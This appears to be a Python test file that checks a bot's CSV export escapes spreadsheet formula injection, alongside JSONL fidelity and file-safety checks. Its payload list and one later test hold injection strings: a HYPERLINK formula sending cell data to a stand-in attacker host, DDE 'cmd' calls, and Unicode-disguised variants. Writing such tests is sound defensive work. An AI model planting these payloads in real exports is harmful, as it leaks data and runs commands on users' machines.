"""Is a table what RFC 4180 says, and does no cell of it do anything in a spreadsheet?"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.record_columns import COLUMNS
from bot.exporting import tables
from bot.misconfigured import Misconfigured
from tests.builders import who
from tests.exporting import Stage, staged

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",  # noqa: RUF001
    "fine;=1+1",
    "fine; @SUM(1)",
)
STARTS = re.compile(r"[=+\-@＝＋－＠\t\r\n]")  # noqa: RUF001


@pytest.fixture
async def stage(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> AsyncIterator[Stage]:
    made = await staged(f"sqlite:///{tmp_path / 'countersign.db'}", tmp_path, capsys)
    yield made
    await made.house.store.close()


def begins_a_formula(cell: str) -> bool:
    """As a spreadsheet may read it, which passes over what nobody sees."""
    seen = "".join(it for it in cell if unicodedata.category(it)[0] not in "CZ")
    return STARTS.match(seen) is not None or STARTS.match(cell) is not None


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_begin_a_formula_does_not(text: str) -> None:
    assert not begins_a_formula(tables.cell(text))
    assert not any(map(begins_a_formula, tables.cell(text).split(";")))


@pytest.mark.parametrize("text", ["Retry refunds", "a=b", "1-2", "x@acme.example", "C++", ""])
def test_what_does_not_is_as_it_was(text: str) -> None:
    assert tables.cell(text) == text


@given(st.text())
def test_no_text_at_all_begins_one_or_breaks_a_line(text: str) -> None:
    cell = tables.cell(text)
    assert not any(map(begins_a_formula, cell.split(";")))
    assert len(cell.splitlines()) <= 1
    assert not any(unicodedata.category(it) in ("Cf", "Cc") for it in cell)


@given(st.lists(st.text()))
def test_a_list_is_json_and_begins_none(texts: list[str]) -> None:
    cell = tables.cell(texts)
    assert cell.startswith("[")
    assert not any(map(begins_a_formula, cell.split(";")))


@given(st.text(st.characters(exclude_characters="=+-@＝＋－＠", codec="utf-8")))  # noqa: RUF001
def test_a_row_is_read_as_it_was_written(text: str) -> None:
    record = {**dict.fromkeys(COLUMNS), "change.title": text}
    ((_, *rest), row) = csv.reader(io.StringIO(tables.heading() + tables.row(record), newline=""))
    assert rest == list(COLUMNS[1:])
    assert row[COLUMNS.index("change.title")] == tables.cell(text)


def test_lines_end_as_they_should() -> None:
    assert tables.heading().endswith('"\r\n')
    assert tables.heading().count("\n") == 1


@given(st.text())
def test_a_line_of_json_is_ascii_and_exact(text: str) -> None:
    line = tables.line({"title": text})
    assert line.isascii()
    assert line.count("\n") == 1
    assert json.loads(line) == {"title": text}


def left(folder: Path) -> list[str]:
    """Of an export, finished or not."""
    return [it.name for it in folder.iterdir() if "q4" in it.name]


async def test_a_person_s_words_are_harmless_in_a_table_and_exact_in_json(stage: Stage) -> None:
    title = "=cmd|' /C calc'!A0\u202etxt.exe"
    wrote = '-1+1\r\n"quoted", and; =2+2'
    await stage.decided(1, title=title, description=wrote, author=who("jun", name="@SUM(1)"))
    (row,) = stage.export(form="csv").rows
    assert row["change.title"] == r"'=cmd|' /C calc'!A0\u202etxt.exe"
    assert row["change.description"] == r"""'-1+1\r\n"quoted", and; '=2+2"""
    assert not any(begins_a_formula(cell) for cell in row.values())
    (record,) = stage.export().records
    assert (record["change"]["title"], record["change"]["description"]) == (title, wrote)


async def test_what_stands_beside_a_table_says_whether_it_is_complete(
    stage: Stage, tmp_path: Path
) -> None:
    await stage.decided(1)
    out = tmp_path / "q4.csv"
    said = stage.export("--out", str(out), form="csv")
    assert (said.code, said.out) == (0, "")
    beside = json.loads((tmp_path / "q4.csv.completeness.json").read_text())
    assert (beside["decisions"], beside["trail_holds"]) == (1, True)
    raw = out.read_bytes()
    assert beside["file"]["name"] == "q4.csv"
    assert beside["file"]["bytes"] == len(raw)
    assert beside["file"]["sha256"] in said.err
    assert raw.count(b"\r\n") == 2
    assert out.stat().st_mode & 0o777 == 0o600


async def test_a_file_that_is_there_is_left_alone(stage: Stage, tmp_path: Path) -> None:
    await stage.decided(1)
    for there in ("q4.csv", "q4.csv.completeness.json"):
        (tmp_path / there).write_text("mine")
        with pytest.raises(Misconfigured, match="is there already"):
            stage.export("--out", str(tmp_path / "q4.csv"), form="csv")
        assert (tmp_path / there).read_text() == "mine"
        (tmp_path / there).unlink()
    assert stage.export("--out", str(tmp_path / "q4.csv"), form="csv").code == 0


async def test_what_fails_leaves_no_half_a_file(stage: Stage, tmp_path: Path) -> None:
    await stage.house.store.close()
    (tmp_path / "countersign.db").write_bytes(b"no database at all" * 1000)
    with pytest.raises(Misconfigured):
        stage.export("--out", str(tmp_path / "q4.jsonl"))
    assert left(tmp_path) == []
